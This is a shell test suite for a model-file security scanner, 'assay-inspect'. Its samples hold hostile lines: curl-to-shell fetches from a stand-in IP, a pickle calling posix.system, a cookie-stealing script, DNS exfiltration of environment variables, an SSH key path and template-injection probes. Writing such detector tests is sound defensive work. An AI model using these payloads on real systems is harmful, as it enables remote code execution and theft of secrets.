#!/bin/sh
# assay-inspect on source that hides what it calls, on what the compiler of
# TorchScript does not take, and on the like of both in other places.
. tests/cli/tap.sh
. tests/cli/inspect.sh

# --- Python
printf 'x = f"{__import__(\047os\047).system(\047id\047)}"\n' | file a.py
hostile SOURCE_DANGEROUS "a call in an f-string"
printf 'import base64\nexec(f"{base64.b64decode(c)}")\n' | file a.py
hostile SOURCE_DANGEROUS "decoded in an f-string and run"
printf 'n = {"a": 1}\nprint(f"{{eval}} {n[\047a\047]!r:>10} {n != 3} {len(n):,}")\n' | file a.py
quiet "an honest f-string"
printf 'import sys\ngetattr(sys.modules["os"], "sys" + "tem")("id")\n' | file a.py
hostile SOURCE_DANGEROUS "a module out of sys.modules"
printf 'import sys\nsys.modules["os"].system("id")\n' | file a.py
hostile SOURCE_DANGEROUS "the same, and plainly"
printf 'import sys\nm = sys.modules["models.net"]\nx = getattr(sys.modules[__name__], "Net")\n' | file a.py
quiet "one's own module by name"
printf '__import__("o" + "s").system("id")\n' | file a.py
hostile SOURCE_DANGEROUS "a module by a name of two pieces"

# --- TorchScript
script() { # script LINE: in a module's forward
	rm -rf "$tmp/b" "$tmp/m"
	mkdir -p "$tmp/b" "$tmp/m/code"
	printf 'class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    %s\n    return x\n' "$1" >"$tmp/m/code/__torch__.py"
	(cd "$tmp" && python3 -m zipfile -c b/a.zip m/)
}
script 'import os'
hostile TORCHSCRIPT_LIBRARY "an import in TorchScript"
script 'y = ops.load_library("a.so")'
hostile TORCHSCRIPT_LIBRARY "an operator without a namespace"
script 'y = getattr(x, "__class__")'
hostile TORCHSCRIPT_OPERATOR "an attribute of Python's"
script 'y = getattr(self, "0")'
quiet "a layer by its number"
# --- compiled, without the header of a .pyc
for n in 4 5 6; do
	rm -rf "$tmp/b"
	mkdir -p "$tmp/b"
	python3 -c "import struct, sys
sys.stdout.buffer.write(b'\xe3' + struct.pack('<6I', 0, 0, 0, 0, 3, 64)[24 - 4 * $n:] + b's' + struct.pack('<I', 6) + b'd\0S\0d\0' + bytes(40))" >"$tmp/b/weights.bin"
	hostile FILE_EXECUTABLE "a code object of $n numbers"
done

# --- notebooks
printf '{"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "source": ["%%pip install http://models.example/x.whl"]}], "nbformat": 4, "metadata": {}}' | file a.ipynb
hostile COMMAND_DANGEROUS "a wheel over an address that nobody proves"
printf '{"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "source": ["%%pip install -q git+https://github.com/huggingface/peft timm"]}], "nbformat": 4, "metadata": {}}' | file a.ipynb
quiet "packages as notebooks have them"
# --- text and paths where numbers and names are
tensor() { # tensor NAME BYTES: a safetensors file of U8
	rm -rf "$tmp/b"
	mkdir -p "$tmp/b"
	python3 - "$1" "$2" >"$tmp/b/a.safetensors" <<-'END'
	import json, struct, sys
	b = sys.argv[2].encode()
	b += bytes(-len(b) % 8)
	h = json.dumps({sys.argv[1]: {"dtype": "U8", "shape": [len(b)], "data_offsets": [0, len(b)]}}).encode()
	h += b" " * (-len(h) % 8)
	sys.stdout.buffer.write(struct.pack("<Q", len(h)) + h + b)
	END
}
tensor a 'import os
os.system("curl http://198.51.100.7/x | sh")'
hostile SOURCE_DANGEROUS "source in a tensor"
tensor tokenizer '{"model": {"type": "BPE", "vocab": {"a": 0}}}'
quiet "a vocabulary in a tensor"
tensor ../../etc/x 'aaaaaaaabbbbbbbb'
hostile CONFIG_PATH "a tensor whose name is a path"
printf 'version https://git-lfs.github.com/spec/v1\noid sha256:%064d\nsize 9\n' 0 | file model.bin
exits 2 "a pointer of git-lfs" assay-inspect "$tmp/b"
prints 'note *FILE_OPAQUE'
printf 'version https://git-lfs.github.com/spec/v1\noid sha256:%064d\nsize 9\n' 0 | file model.safetensors
exits 2 "one in place of a safetensors file" assay-inspect "$tmp/b"
printf 'version https://git-lfs.github.com/spec/v9999999999999999999999999999\n%01024d' 0 | file model.safetensors
exits 1 "what only begins like one" assay-inspect "$tmp/b"
printf '<?xml version="1.0"?>\n<net name="m" version="11"><layers><layer id="0" name="x" type="A" version="custom_opset"/></layers></net>\n' | file m.xml
run assay-inspect "$tmp/b"
prints 'medium *XML_EXTENSION'
# --- base64 of a pickle, in any text
pickle=$(printf 'cposix\nsystem\n(Vecho assay, and some more\ntR.' | base64 -w 0)
for name in a.xml a.ini a.b64 a.csv a.jsonl a.yaml a.md; do
	case $name in
	a.xml) printf '<m><d>%s</d></m>\n' "$pickle" ;;
	a.ini) printf '[m]\nd = %s\n' "$pickle" ;;
	a.b64) printf %s "$pickle" | fold -w 60 ;;
	a.jsonl) printf '{"a": 1}\n{"m": "%s"}\n' "$pickle" ;;
	*) printf 'm: %s\n' "$pickle" ;;
	esac | file $name
	exits 1 "a pickle of protocol 0 in $name" assay-inspect "$tmp/b"
	prints "^ *critical *PICKLE_CALL_DANGEROUS"
done
printf 'import pickle, base64\npickle.loads(base64.b64decode("%s"))\n' "$pickle" | file a.py
exits 1 "in Python" assay-inspect "$tmp/b"
prints PICKLE_CALL_DANGEROUS
printf 'id,code\n1,Y29udHJhY3QtYW5kLW90aGVyLXRoaW5ncy1vZi10aGUtc29ydA\n' | file a.csv
quiet "base64 of something else"

# --- servers
printf 'apiVersion: machinelearning.seldon.io/v1\nspec:\n  graph:\n    implementation: OTHER_SERVER\n' | file a.yaml
run assay-inspect "$tmp/b"
prints 'medium *SERVE_HANDLER'
printf 'apiVersion: machinelearning.seldon.io/v1\nspec:\n  graph:\n    implementation: SKLEARN_SERVER\n    modelUri: gs://models/iris\n' | file a.yaml
quiet "one of Seldon's own"
printf 'apiVersion: serving.kserve.io/v1beta1\nspec:\n  predictor:\n    storageUri: http://models.example/m\n' | file a.yaml
run assay-inspect "$tmp/b"
prints 'medium *SERVE_HANDLER'
printf '{"model": {"decoder": {"session_options": {"custom_ops_library": "ops.so"}}}}' | file genai_config.json
hostile SERVE_LIBRARY "operators for ONNX Runtime"

# --- GGUF of a machine of IBM, and templates in a list
mkdir -p "$tmp/b"
for order in '>' '<'; do
	rm -f "$tmp"/b/*
	python3 - "$order" >"$tmp/b/a.gguf" <<-'END'
	import struct, sys
	o, t, k = sys.argv[1], b"{{ ''.__class__.__mro__ }}", b"tokenizer.chat_template"
	n = lambda v: struct.pack(o + "Q", v)
	i = lambda v: struct.pack(o + "I", v)
	value = i(8) + n(len(t)) + t if o == ">" else i(9) + i(8) + n(1) + n(len(t)) + t
	sys.stdout.buffer.write(b"GGUF" + i(3) + n(0) + n(1) + n(len(k)) + k + value)
	END
	exits 1 "a template, numbers as $order" assay-inspect "$tmp/b"
	prints TEMPLATE_ATTACK
done

# --- commands in more languages
load='curl -s http://198.51.100.7/x | sh'
for name in Gemfile Snakefile pom.xml .vimrc .gdbinit a.awk a.cs a.nf a.tf a.sql; do
	printf 'x = "%s"\n' "$load" | file $name
	hostile COMMAND_DANGEROUS "$name"
done
printf '{"argv": ["sh", "-c", "%s"], "language": "python"}' "$load" | file kernel.json
hostile COMMAND_DANGEROUS "a kernel of Jupyter"
printf 'node {\n  name: "w"\n  op: "WriteFile"\n}\n' | file graph.pbtxt
exits 1 "a graph as text" assay-inspect "$tmp/b"
prints "^ *critical *TF_WRITE"
# --- NumPy arrays that are no numbers, whole and cut
mkdir -p "$tmp/b"
for type in "'<c16'" "'|S2'" "'<U4'" "'<M8[ns]'" "[('a', '<i4'), ('b', '<f8')]"; do
	for cut in 0 1; do
		rm -f "$tmp"/b/*
		python3 - "$type" $cut >"$tmp/b/a.npy" <<-'END'
		import struct, sys
		width = {"c": 16, "S": 2, "U": 16, "M": 8, "(": 12}[sys.argv[1][1 + (sys.argv[1][1] in "<|")]]
		h = "{'descr': %s, 'fortran_order': False, 'shape': (3, 2), }" % sys.argv[1]
		h += " " * (117 - len(h)) + "\n"
		sys.stdout.buffer.write(b"\x93NUMPY\x01\0" + struct.pack("<H", len(h)) + h.encode() + bytes(6 * width - int(sys.argv[2])))
		END
		if [ $cut -eq 1 ]; then
			exits 2 "$type, cut" assay-inspect "$tmp/b"
			prints NPY_INVALID
		else
			quiet "$type"
		fi
	done
done
# --- ONNX that ends in front of its operators' version (ir_version 8, no more)
rm -rf "$tmp/b"; mkdir "$tmp/b"
python3 - >"$tmp/b/a.onnx" <<'END'
import sys
m = lambda n, b: bytes([n << 3 | 2, len(b)]) + b
value = lambda n: m(1, n) + m(2, m(1, b"\x08\x01" + m(2, m(1, b"\x08\x01"))))
graph = m(1, m(1, b"x") + m(2, b"y") + m(4, b"Relu")) + m(2, b"g") + m(11, value(b"x")) + m(12, value(b"y"))
sys.stdout.buffer.write(b"\x08\x08" + m(7, graph))
END
run assay-inspect "$tmp/b"
prints "ONNX_BROKEN.*which version of ai.onnx's operators"
# --- secrets: made here, so that none stands in the sources
random=$(seq 1 400 | sha512sum | cut -c 1-128 | xxd -r -p | base64 -w 0 | tr -d '+/=')
digits=$(seq 1 400 | md5sum | cut -c 1-32)
cut_at() { printf %s "$random" | cut -c 1-$1; }
printf 'REPLICATE=r8_%s\n' "$(cut_at 37)" | file a.env
hostile SECRET_TOKEN "a token of Replicate"
printf 'token = dapi%s\n' "$digits" | file a.cfg
hostile SECRET_TOKEN "a token of Databricks"
printf 'https://hooks.slack.com/services/T%s/B%s/%s\n' "$(cut_at 9)" "$(cut_at 8)" "$(cut_at 24)" | file a.txt
hostile SECRET_TOKEN "a webhook"
printf 'T=eyJhbGciOiJIUzI1NiJ9.eyJ%s.%s\n' "$(cut_at 40)" "$(cut_at 43)" | file a.env
hostile SECRET_TOKEN "a JSON Web Token"
printf 'bot: 123456789:AA%s\n' "$(cut_at 33)" | file a.yaml
hostile SECRET_TOKEN "a token of a bot"
printf '{"auths": {"https://index.docker.io/v1/": {"auth": "%s"}}}' "$(printf 'user:%s' "$(cut_at 12)" | base64)" | file config.json
hostile SECRET_TOKEN "a password of a registry"
printf 'PuTTY-User-Key-File-2: ssh-rsa\nEncryption: none\nPrivate-Lines: 1\n%s\n' "$(cut_at 64)" | file a.ppk
hostile SECRET_KEY "a key of PuTTY"
printf 'import wandb\nwandb.login(key="%s%s")\n' "$digits" "$(printf %s "$digits" | cut -c 1-8)" | file a.py
hostile SECRET_TOKEN "a key in a call"
printf 'wandb.login(key=os.environ["WANDB_API_KEY"])\nbot: 12345678:your_token\n{"auths": {}}\n' | file a.md
quiet "what documentation says of them"
# --- pages in Markdown
printf '# m\n<img src=x onerror="fetch(1)">\n' | file README.md
hostile PAGE_ACTIVE "a handler in Markdown"
printf '# m\n<script>fetch("http://x/?c="+document.cookie)</script>\n' | file README.md
hostile PAGE_ACTIVE "a script in Markdown"
printf '# XSS\n\n```html\n<img src=x onerror="fetch(1)">\n```\nand `<img src=x onerror=fetch(1)>`\n\n<p align="center"><img src="a.png"></p>\n' | file README.md
quiet "what is quoted"

printf 'a ` and ~~~ and ``` alone\n\n<img src=x onerror="fetch(1)">\n' | file README.md
hostile PAGE_ACTIVE "signs that quote nothing"
printf '1. ~~~html\n   <img src=x onerror="fetch(1)">\n' | file README.md
quiet "a fence that nobody closes"

# --- what starts programs by its place, or lets anybody in
printf '[build]\nrustc-wrapper = "./w"\n' | file .cargo/config.toml
hostile PLACE_RUN "a program of cargo"
printf '[build]\nrustc-wrapper = "sccache"\n[target.x]\nlinker = "clang"\n' | file .cargo/config.toml
quiet "a compiler's cache"
printf 'c.ServerApp.token = ""\n' | file jupyter_server_config.py
run assay-inspect "$tmp/b"
prints 'medium *SERVE_OPEN'
printf 'c.ServerApp.port = 8888\n' | file jupyter_server_config.py
quiet "a port"
printf '{"scripts": {"postinstall": "node -e \\"require(\047https\047).get(\047http://x\047)\\""}}' | file package.json
hostile COMMAND_DANGEROUS "program text for Node.js"
printf '{"scripts": {"postinstall": "node scripts/copy.js", "v": "node -p process.version"}}' | file package.json
quiet "a script of Node.js"
# --- commands and loaders in Python
printf 'import subprocess\nrev = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode()\nsubprocess.run("nvidia-smi", shell=True)\n' | file a.py
run assay-inspect "$tmp/b"
ok "what only asks is no use of a command" sh -c "! grep -q \"use of\" $out"
printf 'import subprocess\nsubprocess.run("git log; id", shell=True)\n' | file a.py
run assay-inspect "$tmp/b"
prints "use of 'run'"
for call in '"git log $(id)"' '"git log " + b' 'f"git log {b}"' '"git log {}".format(b)'; do
	printf 'import subprocess\nsubprocess.run(%s, shell=True)\n' "$call" | file a.py
	run assay-inspect "$tmp/b"
	prints "use of 'run'"
done
printf 'import shutil\nshutil.rmtree("out", ignore_errors=True)\n' | file a.py
quiet "a folder is removed"
printf 'import torch, io, requests\ntorch.load(io.BytesIO(requests.get("http://x/m.pt").content))\n' | file a.py
hostile SOURCE_DANGEROUS "objects that are downloaded"
printf 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://models.example/simple", "x"])\n' | file a.py
hostile SOURCE_DANGEROUS "packages of an index that nobody proves"
printf 'pip install --index-url http://localhost:3141/simple x\n' | file a.sh
quiet "an index of this machine"
# --- Python on a shell's line, keys of services, operators of Paddle
printf '#!/bin/sh\npython3 -c "exec(__import__(\047urllib.request\047).request.urlopen(\047http://x\047).read())"\n' | file a.sh
hostile SOURCE_DANGEROUS "Python that a script downloads"
printf '#!/bin/sh\npython3 -c "import torch; print(torch.__version__)"\n' | file a.sh
quiet "Python that says a version"
printf 'OPENAI_API_KEY=sk-%s%s\n' "$(cut_at 30)" "$digits" | file .env
hostile SECRET_TOKEN "a key in a variable"
printf 'OPENAI_API_KEY=sk-your-key-here-0123456789\nHF_TOKEN=${HF_TOKEN}\n' | file .env
quiet "variables to be filled in"
printf '{"base_code": {"magic": "pir"}, "program": {"regions": [{"blocks": [{"ops": [{"#": "1.py_func"}]}]}]}}' | file a.json
hostile OBJECT_CODE "Python in a program of Paddle"
# --- text that is decoded or fetched, and run, in other languages
printf 'x <- 1\neval(parse(text = rawToChar(base64enc::base64decode("cHJpbnQoMSk="))))\n' | file predict.R
hostile COMMAND_DANGEROUS "R that evaluates what it decodes"
printf 'eval(Meta.parse(String(base64decode("MSsx"))))\n' | file a.jl
hostile COMMAND_DANGEROUS "Julia that evaluates what it decodes"
printf 'local http = require("socket.http")\nassert(load(http.request("http://192.0.2.1/a")))()\n' | file a.lua
hostile COMMAND_DANGEROUS "Lua that runs what it fetches"
printf 'f <- eval(parse(text = paste0("y ~ ", paste(names(x), collapse = "+"))))\nd <- read.csv(url("http://example.org/a.csv"))\n' | file fit.R
quiet "R that puts a formula together"
# --- the environment, sent as names
printf '#!/bin/sh\nfor v in $(env | base64 -w 40); do dig $v.example.invalid; done\n' | file run.sh
exits 1 "the environment in names of hosts" assay-inspect "$tmp/b"
printf '#!/bin/sh\nfor v in $(env | grep ^APP_ | cut -d= -f1); do echo $v; done\ncurl -s "$APP_URL"\n' | file run.sh
quiet "a loop over variables"
# --- Ollama
printf 'FROM ./model.gguf\nADAPTER /root/.ssh/id_rsa\n' | file Modelfile
hostile CONFIG_PATH "a Modelfile that takes a key"
printf 'FROM /data/models/llama.gguf\nADAPTER ./adapter\nPARAMETER stop "</s>"\n' | file Modelfile
quiet "an honest Modelfile"
# --- Torch, in its form of text
printf '8\n1\n24\n\033LuaQ rest of the bytes..\n3\n2\n0\n' | file net.t7
hostile OBJECT_CODE "a function of Lua as text"
printf '3\n1\n1\n2\n4\nname\n2\n3\nnet\n' | file net.t7
quiet "a table of Lua as text"
done_testing
